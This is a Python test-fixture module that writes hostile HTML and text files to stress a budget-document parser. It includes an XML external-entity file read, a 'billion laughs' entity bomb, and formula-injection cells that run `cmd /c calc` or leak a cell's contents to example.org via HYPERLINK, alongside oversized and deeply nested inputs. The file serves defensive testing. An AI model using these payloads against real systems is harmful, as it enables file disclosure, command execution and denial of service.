"""Web pages and texts that mean harm.

Belongs here: making them. Does not: what becomes of them (`test_hostile_files`).
"""

from __future__ import annotations

from pathlib import Path


def written(path: Path, *parts: str) -> Path:
    with path.open("w", encoding="utf-8") as out:
        out.writelines(parts)
    return path


def cells(path: Path, rows: int, columns: int) -> Path:
    row = f"<tr>{'<td>1</td>' * columns}</tr>\n"
    return written(path, "<html><table>", row * rows, "</table></html>")


def many_tables(path: Path, count: int) -> Path:
    table = "<table><tr><td>项目<td>金额<tr><td>合计<td>12.00</table>\n"
    return written(path, "<html>", table * count, "</html>")


def one_cell(path: Path, size: int) -> Path:
    row = "<tr><td>项目<td>金额"
    return written(path, "<html><table>", row, "<tr><td>合计<td>", "1,234.00 " * (size // 9), "</table></html>")


def one_cell_claims(path: Path, span: int) -> Path:
    return written(path, f"<html><table><tr><td rowspan={span} colspan={span}>1</td></tr><tr><td>2</td></tr></table>")


def nested(path: Path, depth: int, tag: str = "div") -> Path:
    return written(path, "<html>", f"<{tag}>" * depth, "1")


def nested_tables(path: Path, depth: int) -> Path:
    return written(path, "<html>", "<table><tr><td>1<td>" * depth)


def outside_entity(path: Path, target: Path) -> Path:
    return written(
        path,
        f'<!DOCTYPE html [<!ENTITY x SYSTEM "{target.as_uri()}">]>\n<html><p>before &x; after</p></html>',
    )


def multiplying_entities(path: Path, levels: int = 12) -> Path:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return written(path, f'<!DOCTYPE html [<!ENTITY e0 "ha">{entities}]>\n<html><p>&e{levels - 1};</p></html>')


def long_attribute(path: Path, size: int) -> Path:
    return written(path, '<html><p class="', "a" * size, '">1</p></html>')


def said_again(path: Path, what: str, times: int) -> Path:
    """Looked back from at each, up to the beginning of the line, it took five minutes."""
    return written(path, "某某局2024年部门预算\n", what * times, "\n")


def formulas(path: Path) -> Path:
    """What a spreadsheet program would run if these cells were exported to it as they are."""
    cells = ("=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", '=HYPERLINK("http://example.org?"&A1,"look")', "12.00")
    return written(path, "<html><table><tr><td>名称<td>金额</tr>", *(f"<tr><td>项目<td>{c}</tr>" for c in cells))


def lines(path: Path, count: int, line: str) -> Path:
    return written(path, *(f"{line}\n" for _ in range(count)))


def one_line(path: Path, size: int) -> Path:
    piece = "支出12.00万元，"
    return written(path, piece * (size // len(piece)))
